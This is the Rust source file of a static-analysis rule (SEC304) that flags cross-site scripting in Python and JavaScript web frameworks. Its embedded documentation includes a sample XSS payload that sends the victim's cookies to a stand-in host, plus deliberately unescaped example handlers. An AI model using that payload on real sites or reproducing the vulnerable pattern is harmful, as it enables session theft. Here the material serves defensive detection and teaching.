//! SEC304 xss: request data written into HTML without escaping.

use ba_syntax::NodeExt;
use tree_sitter::Node;

use super::sink_argument;
use crate::{
    Applicability, Captures, Category, Check, Checker, Edit, FixAvailability, Rule, Severity,
};
use ba_analysis::{ancestors, named_children, Arguments, Sink};
use ba_syntax::Family;

pub static RULE: Rule = Rule {
    code: "SEC304",
    name: "xss",
    category: Category::Security,
    severity: Severity::Error,
    cwe: &[79],
    owasp: Some("A03:2021 Injection"),
    summary: "Request data reaches HTML without escaping; render it through an autoescaping template or `escape()` it.",
    docs: DOCS,
    fix: FixAvailability::Sometimes,
    classes: crate::classes::RUNTIME,
    checks: &[
        Check {
            family: Family::Python,
            query_path: "python/calls.scm",
            query: include_str!("../../../../queries/python/calls.scm"),
            run: check_call,
        },
        Check {
            family: Family::Python,
            query_path: "python/returns.scm",
            query: include_str!("../../../../queries/python/returns.scm"),
            run: check_return,
        },
        Check {
            family: Family::JavaScript,
            query_path: "javascript/calls.scm",
            query: include_str!("../../../../queries/javascript/calls.scm"),
            run: check_javascript,
        },
        Check {
            family: Family::JavaScript,
            query_path: "javascript/calls.scm",
            query: include_str!("../../../../queries/javascript/calls.scm"),
            run: check_js_escaping_off,
        },
        Check {
            family: Family::JavaScript,
            query_path: "javascript/bindings.scm",
            query: include_str!("../../../../queries/javascript/bindings.scm"),
            run: check_koa_body,
        },
        // `sink = "html"` rows of the detection models (docs/models.md).
        Check {
            family: Family::Python,
            query_path: "python/calls.scm#models",
            query: include_str!("../../../../queries/python/calls.scm"),
            run: super::model_sinks::check::<{ Sink::Html as u8 }>,
        },
        Check {
            family: Family::JavaScript,
            query_path: "javascript/calls.scm#models",
            query: include_str!("../../../../queries/javascript/calls.scm"),
            run: super::model_sinks::check::<{ Sink::Html as u8 }>,
        },
    ],
};

/// Whether a JavaScript expression builds a string: a template literal with substitutions,
/// `+`, `.concat()`/`.join()`, directly or through the local it is bound to.
fn js_built<'a>(checker: &Checker<'a>, node: Node<'a>, depth: u32) -> bool {
    let Some(_level) = ba_syntax::depth::enter() else {
        return false;
    };
    match node.kind_str() {
        "template_string" => named_children(node)
            .iter()
            .any(|c| c.kind_str() == "template_substitution"),
        "binary_expression" => node
            .field("operator")
            .is_some_and(|o| checker.text(o) == "+"),
        "call_expression" => {
            node.field("function")
                .and_then(|f| f.field("property"))
                .is_some_and(|p| matches!(checker.text(p), "concat" | "join" | "replace"))
                // Markdown rendered to HTML: raw HTML in the source passes through.
                || node
                    .field("function")
                    .and_then(|f| checker.resolve(f))
                    .is_some_and(|q| MARKDOWN.contains(&q.as_str()))
        }
        "parenthesized_expression" => node
            .named_child(0)
            .is_some_and(|c| js_built(checker, c, depth)),
        "identifier" if depth < 3 => match checker.lookup(node) {
            ba_analysis::Lookup::Local(bindings) => bindings.iter().any(|b| match b {
                ba_analysis::Binding::Value(v) | ba_analysis::Binding::Augmented(v) => {
                    js_built(checker, *v, depth + 1)
                }
                _ => false,
            }),
            _ => false,
        },
        _ => false,
    }
}

/// Markdown renderers whose output keeps the raw HTML of their input (marked dropped its
/// `sanitize` option): propagator rows in `javascript/models/templates.toml`.
const MARKDOWN: &[&str] = &["marked", "marked.marked", "marked.parse", "marked.default"];

/// Express `res.send(html)`, `res.write(html)`, `res.end(html)`: a string body is sent as
/// `text/html` by `send` and sniffed by browsers from `write`/`end`.
fn check_javascript<'a>(checker: &mut Checker<'a>, caps: &Captures<'_, 'a>) {
    let (Some(func), Some(args)) = (caps.get("func"), caps.get("args")) else {
        return;
    };
    if func.kind_str() != "member_expression" {
        return;
    }
    let method = func
        .field("property")
        .map(|p| checker.text(p))
        .unwrap_or("");
    if !matches!(method, "send" | "write" | "end") {
        return;
    }
    // The receiver chain starts at `res`/`response`: `res.status(404).send(…)`.
    let Some(receiver) = func.field("object") else {
        return;
    };
    let mut root = receiver;
    loop {
        root = match root.kind_str() {
            "call_expression" => match root.field("function") {
                Some(f) => f,
                None => return,
            },
            "member_expression" => match root.field("object") {
                Some(o) => o,
                None => return,
            },
            _ => break,
        };
    }
    if root.kind_str() != "identifier" {
        return;
    }
    let chain = checker.text(receiver);
    // Fastify sends a string as `text/plain` unless the reply's type says HTML
    // (`reply.type("text/html").send(…)`, `reply.header("content-type", "text/html")`).
    let fastify = matches!(checker.text(root), "reply" | "rep")
        && method == "send"
        && chain.to_ascii_lowercase().contains("text/html");
    if !fastify && !matches!(checker.text(root), "res" | "response") {
        return;
    }
    if chain.contains("json") || chain.contains("text/plain") || chain.contains(".type(\"text\")") {
        return;
    }
    if non_html_type_before(checker, func) {
        return;
    }
    let Some(body) = checker.arguments(args).positional.clone().first().copied() else {
        return;
    };
    // Objects and arrays are sent as JSON.
    if matches!(body.kind_str(), "object" | "array") {
        return;
    }
    let Some(taint) = checker.taint(body, Sink::Html).filter(|t| t.user) else {
        return;
    };
    // A value sent as is may be an object (sent as JSON); only request fields that are strings
    // by nature are HTML when sent raw.
    if !js_built(checker, body, 0)
        && ![
            ".query", ".params", ".cookies", ".headers", ".get(", ".header(",
        ]
        .iter()
        .any(|s| taint.what.contains(s))
    {
        return;
    }
    let from = checker.describe(&taint);
    checker
        .report(body, format!("`{}.{method}` sends a string built from {from} as HTML without escaping; render a template (autoescaped) or escape the value (`escape-html`, `he.encode`)", if fastify { "reply" } else { "res" }))
        .with_taint(&taint);
}

/// Whether the handler set a Content-Type other than HTML before sending (`res.setHeader(
/// "Content-Type", "application/json")`, `res.set("content-type", "text/plain")`,
/// `res.writeHead(200, { "Content-Type": "text/csv" })`, `res.type("json")`,
/// `res.contentType("text/plain")`): the browser then does not render the body as HTML.
fn non_html_type_before(checker: &Checker, call: Node) -> bool {
    let mut function = call;
    while let Some(parent) = function.parent() {
        function = parent;
        if ba_analysis::routes::is_js_function(function.kind_str()) {
            break;
        }
    }
    let start = function.start_byte();
    let end = call.start_byte();
    let Some(before) = checker.source.get(start..end) else {
        return false;
    };
    let lower = before.to_ascii_lowercase();
    // The first string literal after `at`: the header's value, or the type's argument.
    let literal_after = |at: usize| -> Option<&str> {
        let rest = lower.get(at..)?;
        let rest = rest.get(..rest.len().min(80))?;
        let open = rest.find(['"', '\'', '`'])?;
        // Only punctuation between: `, "`, `": "`, `(`; not another expression.
        if !rest[..open]
            .chars()
            .all(|c| c.is_whitespace() || matches!(c, ',' | ':' | '('))
        {
            return None;
        }
        let quote = rest[open..].chars().next()?;
        let value = &rest[open + 1..];
        let close = value.find(quote)?;
        Some(&value[..close])
    };
    let not_html = |v: &str| !v.is_empty() && !v.contains("html") && !v.contains('$');
    let header = lower.match_indices("content-type").any(|(i, _)| {
        // Skip the header name's own closing quote.
        let after = i + "content-type".len() + 1;
        literal_after(after).is_some_and(not_html)
    });
    header
        || [".type(", ".contenttype("].iter().any(|m| {
            lower
                .match_indices(m)
                .any(|(i, _)| literal_after(i + m.len()).is_some_and(not_html))
        })
}

/// Template engines configured to render variables unescaped: (callee, index of the options
/// argument, option, the value that turns escaping off).
const JS_ESCAPING_OFF: &[(&str, usize, &str, &str)] = &[
    ("nunjucks.configure", 1, "autoescape", "false"),
    ("nunjucks.Environment", 1, "autoescape", "false"),
    ("handlebars.compile", 1, "noEscape", "true"),
    ("handlebars.precompile", 1, "noEscape", "true"),
    ("express-handlebars.engine", 0, "noEscape", "true"),
    ("express-handlebars.create", 0, "noEscape", "true"),
    ("express-handlebars", 0, "noEscape", "true"),
    ("swig.setDefaults", 0, "autoescape", "false"),
];

/// `nunjucks.configure("views", { autoescape: false })`, `Handlebars.compile(t, { noEscape:
/// true })`: every variable in every template is then written as raw HTML.
fn check_js_escaping_off<'a>(checker: &mut Checker<'a>, caps: &Captures<'_, 'a>) {
    let (Some(func), Some(args)) = (caps.get("func"), caps.get("args")) else {
        return;
    };
    let callees: Vec<&str> = JS_ESCAPING_OFF.iter().map(|e| e.0).collect();
    let Some(callee) = checker.resolve_callee(func, &callees) else {
        return;
    };
    let Some(&(_, index, option, off)) = JS_ESCAPING_OFF.iter().find(|e| e.0 == callee) else {
        return;
    };
    let positional = checker.arguments(args).positional.clone();
    // `nunjucks.configure({ autoescape: false })`: the options may come first.
    let options = positional
        .get(index)
        .or_else(|| positional.first().filter(|o| o.kind_str() == "object"));
    let Some(value) = options.and_then(|o| super::js_option(checker, *o, option)) else {
        return;
    };
    if value.kind_str() != off {
        return;
    }
    let short = super::callee(checker.text(func));
    checker.report(value, format!(
        "`{short}` with `{option}: {off}` renders every template variable as raw HTML, so any data that reaches a template can inject script; keep escaping on and mark only trusted, sanitised fragments as safe"
    ));
}

/// Whether `node` is Koa's context: `ctx`/`context` (not an import) or `ctx.response`.
fn is_koa_context<'a>(checker: &Checker<'a>, node: Node<'a>) -> bool {
    let Some(_level) = ba_syntax::depth::enter() else {
        return false;
    };
    match node.kind_str() {
        "identifier" => {
            matches!(checker.text(node), "ctx" | "context") && checker.resolve(node).is_none()
        }
        "member_expression" => {
            node.field("property")
                .is_some_and(|p| checker.text(p) == "response")
                && node
                    .field("object")
                    .is_some_and(|o| is_koa_context(checker, o))
        }
        _ => false,
    }
}

/// Whether the text Koa will see may start with `<`: Koa sends a string body as `text/html`
/// when it starts with `<` (after spaces), else as `text/plain`. `None` when it depends on data.
fn starts_with_markup(checker: &Checker, node: Node) -> Option<bool> {
    let _level = ba_syntax::depth::enter()?;
    match node.kind_str() {
        "string" => Some(
            checker
                .text(node)
                .trim_matches(['"', '\''])
                .trim_start()
                .starts_with('<'),
        ),
        "template_string" => {
            let first = named_children(node).into_iter().next()?;
            match first.kind_str() {
                "string_fragment" => Some(checker.text(first).trim_start().starts_with('<')),
                _ => None,
            }
        }
        "binary_expression" => node
            .field("left")
            .and_then(|l| starts_with_markup(checker, l)),
        "parenthesized_expression" => node
            .named_child(0)
            .and_then(|c| starts_with_markup(checker, c)),
        _ => None,
    }
}

/// Koa: `ctx.body = string`. A string that starts with `<` is sent as HTML, so request data
/// at the start of the body (or anywhere in a body that starts with markup, or with
/// `ctx.type = "html"`) is XSS.
fn check_koa_body<'a>(checker: &mut Checker<'a>, caps: &Captures<'_, 'a>) {
    let (Some(target), Some(value)) = (caps.get("target"), caps.get("value")) else {
        return;
    };
    let is_body = target.kind_str() == "member_expression"
        && target
            .field("property")
            .is_some_and(|p| checker.text(p) == "body")
        && target
            .field("object")
            .is_some_and(|o| is_koa_context(checker, o));
    if !is_body {
        return;
    }
    if matches!(value.kind_str(), "object" | "array") {
        return;
    }
    let Some(taint) = checker.taint(value, Sink::Html).filter(|t| t.user) else {
        return;
    };
    // The handler may say what it sends: `ctx.type = "json"` / `"text/plain"` / `"html"`.
    let function = ancestors(checker.item, value).into_iter().rev().find(|a| {
        matches!(
            a.kind_str(),
            "arrow_function"
                | "function_expression"
                | "function"
                | "function_declaration"
                | "method_definition"
        )
    });
    let scope_text = checker.text(function.unwrap_or(checker.item));
    let declared = |t: &str| {
        scope_text.contains(&format!("type = \"{t}"))
            || scope_text.contains(&format!("type = '{t}"))
    };
    if declared("json") || declared("text/plain") || declared("text") && !declared("text/html") {
        return;
    }
    let html = declared("html") || declared("text/html");
    let built = js_built(checker, value, 0);
    let raw_string = [
        ".query", ".params", ".cookies", ".headers", ".get(", ".header(",
    ]
    .iter()
    .any(|s| taint.what.contains(s));
    let reaches_html = if html {
        built || raw_string
    } else if built {
        // Built text: HTML if it starts with markup or with the data itself.
        starts_with_markup(checker, value) != Some(false)
    } else {
        raw_string
    };
    if !reaches_html {
        return;
    }
    let from = checker.describe(&taint);
    let what = if built { "a string built from " } else { "" };
    checker
        .report(value, format!("`ctx.body` is set to {what}{from}; Koa sends a string that starts with `<` as HTML, so the data can inject markup: render a template (autoescaped), escape the value (`escape-html`), or set `ctx.type = \"text/plain\"`"))
        .with_taint(&taint);
}

/// HTML bodies that depend on the receiver or on a keyword: Tornado's `self.write(chunk)` /
/// `self.finish(chunk)` (a string is sent as `text/html` unless the handler set another
/// `Content-Type`), and aiohttp's `web.Response(text=…, content_type="text/html")`.
fn other_html_body<'a>(
    checker: &Checker<'a>,
    func: Node<'a>,
    args_node: Node<'a>,
) -> Option<(String, Node<'a>)> {
    let args = checker.arguments(args_node);
    if super::tornado_self_call(checker, func, &["write", "finish"]) {
        let body = args.get(0, "chunk", checker.source)?;
        // A dict is sent as JSON.
        if body.kind_str() == "dictionary" {
            return None;
        }
        let function = ba_analysis::ancestors(checker.item, func)
            .into_iter()
            .rev()
            .find(|a| a.kind_str() == "function_definition")?;
        let before = &checker.source[function.start_byte()..func.start_byte()];
        if before.contains("set_header(\"Content-Type\"") && !before.contains("html") {
            return None;
        }
        return Some(("write".to_owned(), body));
    }
    if checker
        .resolve_callee(
            func,
            &["aiohttp.web.Response", "aiohttp.web_response.Response"],
        )
        .is_some()
        && args
            .keyword("content_type", checker.source)
            .is_some_and(|v| checker.text(v).contains("html"))
    {
        let body = args
            .keyword("text", checker.source)
            .or_else(|| args.keyword("body", checker.source))?;
        return Some(("web.Response".to_owned(), body));
    }
    None
}

/// A content type that a browser will not render as HTML.
fn not_html(checker: &Checker, args: &Arguments) -> bool {
    ["content_type", "mimetype", "media_type"].iter().any(|k| {
        args.keyword(k, checker.source).is_some_and(|v| {
            let t = checker.text(v);
            !t.contains("html") && (t.starts_with('"') || t.starts_with('\''))
        })
    })
}

fn check_call<'a>(checker: &mut Checker<'a>, caps: &Captures<'_, 'a>) {
    let (Some(func), Some(args_node)) = (caps.get("func"), caps.get("args")) else {
        return;
    };
    // aiohttp-jinja2 and Quart/Sanic-style helpers pass their keywords to `jinja2.Environment`
    // with autoescaping on unless told otherwise.
    if let Some(q) = checker.resolve_callee(func, &["aiohttp_jinja2.setup"]) {
        let args = checker.arguments(args_node);
        if let Some(kw) = args
            .keyword_node("autoescape", checker.source)
            .filter(|kw| {
                kw.field("value")
                    .is_some_and(|v| checker.text(v) == "False")
            })
        {
            checker.report(kw, format!("`{q}(autoescape=False)` makes the app's Jinja2 templates render variables unescaped; drop the argument (autoescaping is on by default) and mark trusted HTML with `Markup` where needed"));
        }
        return;
    }
    if let Some(q) = checker.resolve_callee(
        func,
        &["jinja2.Environment", "jinja2.environment.Environment"],
    ) {
        check_environment(checker, func, args_node, &q);
        return;
    }
    let Some((name, body)) = sink_argument(checker, func, args_node, Sink::Html)
        .or_else(|| other_html_body(checker, func, args_node))
    else {
        return;
    };
    if not_html(checker, &checker.arguments(args_node)) {
        return;
    }
    let Some(taint) = checker.taint(body, Sink::Html).filter(|t| t.user) else {
        return;
    };
    let from = checker.describe(&taint);
    let short = name.rsplit('.').next().unwrap_or(&name);
    let message = if short == "format_html" {
        format!("`format_html` takes {from} as its format string, which it marks safe without escaping (only the arguments are escaped); pass the data as an argument: `format_html(\"<b>{{}}</b>\", value)`")
    } else if matches!(
        short,
        "Markup" | "mark_safe" | "SafeString" | "SafeText" | "SafeUnicode" | "SafeBytes"
    ) {
        format!("`{short}` marks {from} as safe HTML, so templates stop escaping it; pass the raw value to the template (or `escape()` it first)")
    } else {
        format!("`{short}` sends {from} as an HTML body without escaping; render a template (autoescaped) or `escape()` the value")
    };
    checker.report(body, message).with_taint(&taint);
}

/// `jinja2.Environment(...)` without autoescaping (Jinja2's default is off).
fn check_environment<'a>(checker: &mut Checker<'a>, func: Node<'a>, args_node: Node<'a>, _q: &str) {
    let args = checker.arguments(args_node);
    match args.keyword_node("autoescape", checker.source) {
        Some(kw) => {
            let value = kw.field("value").map(|v| checker.text(v));
            if value == Some("False") {
                let range = kw
                    .field("value")
                    .map(|v| v.byte_range())
                    .unwrap_or(kw.byte_range());
                checker
                    .report(kw, "Jinja2 `Environment(autoescape=False)` renders variables unescaped; use `autoescape=select_autoescape()` (or `True`)")
                    .with_fix("Turn autoescaping on", Applicability::Unsafe, vec![Edit { range, content: "True".into() }]);
            }
        }
        None => {
            if args
                .keywords
                .iter()
                .any(|k| checker.text(*k).starts_with("**"))
            {
                return;
            }
            let end = args_node.end_byte() - 1;
            let sep = if args.positional.is_empty() && args.keywords.is_empty() {
                ""
            } else {
                ", "
            };
            checker
                .report(func, "Jinja2 `Environment()` without `autoescape` renders variables unescaped (Jinja2's default); pass `autoescape=select_autoescape()` (or `True`)")
                .with_fix("Turn autoescaping on", Applicability::Unsafe, vec![Edit { range: end..end, content: format!("{sep}autoescape=True") }]);
        }
    }
}

/// Decorator methods that make a function a Flask view.
const ROUTES: &[&str] = &["route", "get", "post", "put", "patch", "delete"];

/// The framework whose view returns `node` as `text/html`: a Flask (or Bottle) view, or a
/// FastAPI route declared with `response_class=HTMLResponse`.
fn html_view<'a>(checker: &Checker<'a>, node: Node<'a>) -> Option<&'static str> {
    if in_flask_view(checker, node) {
        return Some(if super::imports_any(checker, &["bottle"]) {
            "Bottle"
        } else {
            "Flask"
        });
    }
    if !super::imports_any(checker, &["fastapi"]) {
        return None;
    }
    let path = ancestors(checker.item, node);
    let i = path
        .iter()
        .rposition(|n| n.kind_str() == "function_definition")?;
    let decorated = i
        .checked_sub(1)
        .map(|j| path[j])
        .filter(|d| d.kind_str() == "decorated_definition")?;
    named_children(decorated)
        .iter()
        .any(|d| {
            d.kind_str() == "decorator"
                && d.named_child(0)
                    .filter(|c| c.kind_str() == "call")
                    .and_then(|c| c.field("arguments"))
                    .and_then(|a| {
                        checker
                            .arguments(a)
                            .keyword("response_class", checker.source)
                    })
                    .is_some_and(|v| checker.text(v).ends_with("HTMLResponse"))
        })
        .then_some("FastAPI")
}

fn in_flask_view(checker: &Checker, node: Node) -> bool {
    if !super::imports_any(checker, &["flask", "quart", "bottle"]) {
        return false;
    }
    let path = ancestors(checker.item, node);
    let Some(i) = path
        .iter()
        .rposition(|n| n.kind_str() == "function_definition")
    else {
        return false;
    };
    let Some(decorated) = i
        .checked_sub(1)
        .map(|j| path[j])
        .filter(|d| d.kind_str() == "decorated_definition")
    else {
        return false;
    };
    named_children(decorated).iter().any(|d| {
        d.kind_str() == "decorator"
            && d.named_child(0)
                .filter(|c| c.kind_str() == "call")
                .and_then(|c| c.field("function"))
                // `@app.route(…)`, and Bottle's module-level `@route(…)`/`@get(…)`.
                .and_then(|f| {
                    f.field("attribute")
                        .or((f.kind_str() == "identifier").then_some(f))
                })
                .is_some_and(|a| ROUTES.contains(&checker.text(a)))
    })
}

fn check_return<'a>(checker: &mut Checker<'a>, caps: &Captures<'_, 'a>) {
    let Some(mut value) = caps.get("value") else {
        return;
    };
    // `return body, 200` / `return (body, 200, headers)`
    if matches!(value.kind_str(), "expression_list" | "tuple") {
        match value.named_child(0) {
            Some(first) => value = first,
            None => return,
        }
    }
    let built = match value.kind_str() {
        "string" => named_children(value)
            .iter()
            .any(|c| c.kind_str() == "interpolation"),
        "binary_operator" => true,
        "call" => value
            .field("function")
            .and_then(|f| f.field("attribute"))
            .is_some_and(|a| matches!(checker.text(a), "format" | "join")),
        _ => false,
    };
    let plain = matches!(value.kind_str(), "identifier" | "subscript" | "call");
    if !(built || plain) {
        return;
    }
    let Some(framework) = html_view(checker, value) else {
        return;
    };
    let Some(taint) = checker.taint(value, Sink::Html).filter(|t| t.user) else {
        return;
    };
    // A value returned as is may be a dict or list (sent as JSON); only request fields that
    // are strings by nature are HTML when returned raw.
    if !built
        && ![
            "request.args",
            "request.form",
            "request.values",
            "request.query",
            "request.params",
            "request.cookies",
            "request.headers",
            "URL parameter",
            "request parameter",
        ]
        .iter()
        .any(|s| taint.what.contains(s))
    {
        return;
    }
    let from = checker.describe(&taint);
    let message = match framework {
        "FastAPI" => format!("this route returns a string built from {from} as `HTMLResponse`, unescaped; render a Jinja2 template (`Jinja2Templates`, autoescaped) or `html.escape()` the value"),
        "Bottle" => format!("this Bottle route returns a string built from {from}, which Bottle sends as HTML unescaped; render a template (`template()` escapes `{{{{ }}}}`) or `html.escape()` the value"),
        _ => format!("this Flask view returns a string built from {from}, which Flask sends as HTML unescaped; use `render_template` (autoescaped) or wrap the value in `escape()`"),
    };
    checker.report(value, message).with_taint(&taint);
}

const DOCS: &str = r#"## What it does
Flags request data that reaches HTML unescaped: Flask views returning strings built from it
(Flask sends them as `text/html`; Bottle routes likewise), Pyramid/WebOb `Response` bodies, FastAPI routes declared with `response_class=HTMLResponse`
returning such strings, `Markup`/`mark_safe` applied to it, Django `format_html` given it as the
format string, Django `HttpResponse`,
Flask `make_response`/`Response` and Starlette/FastAPI `HTMLResponse` bodies built from it,
Tornado `self.write`/`self.finish` of a string (sent as `text/html` unless the handler set
another `Content-Type`; a dict is JSON), aiohttp `web.Response(text=…, content_type="text/html")`, and
Jinja2 environments created without autoescaping (and `aiohttp_jinja2.setup(…,
autoescape=False)`); in Express, `res.send`/`res.write`/`res.end`
of strings built from request data (or request strings such as `req.query.name` sent as is);
in Koa, `ctx.body = …` with request data where Koa will send it as HTML (a string starting with
`<`, request data at its start, or `ctx.type = "html"`); and template engines configured to
render unescaped (`nunjucks.configure(…, { autoescape: false })`, Handlebars `noEscape: true`,
`swig.setDefaults({ autoescape: false })`). Fastify `reply.type("text/html").send(…)` counts as
`res.send`, and `marked(…)` output keeps the request's raw HTML.
Values passed through `escape`, `html.escape`, `bleach.clean`, `escape-html`,
`encodeURIComponent`, or bodies sent as `text/plain` or JSON are not reported.

## Why is this bad?
`?name=<script>fetch('//evil.example/'+document.cookie)</script>` runs in the victim's browser
with your site's origin: sessions are stolen and actions taken in the user's name.

## Example
```python
@app.get("/hello")
def hello():
    return f"<h1>Hello {request.args.get('name', '')}</h1>"
```
```javascript
app.get("/hello", (req, res) => {
  res.send(`<h1>Hello ${req.query.name}</h1>`);
});
```

## Use instead
```python
from markupsafe import escape

@app.get("/hello")
def hello():
    return f"<h1>Hello {escape(request.args.get('name', ''))}</h1>"
```
```javascript
const escapeHtml = require("escape-html");

app.get("/hello", (req, res) => {
  res.send(`<h1>Hello ${escapeHtml(req.query.name)}</h1>`);
});
```
Better: `render_template("hello.html", name=name)` (or `res.render("hello", { name })`), which
escapes by default.

## References
- [CWE-79: Cross-site Scripting](https://cwe.mitre.org/data/definitions/79.html)
- [OWASP A03:2021 Injection](https://owasp.org/Top10/A03_2021-Injection/)
- [Flask: security considerations (XSS)](https://flask.palletsprojects.com/en/stable/web-security/#cross-site-scripting-xss)
"#;
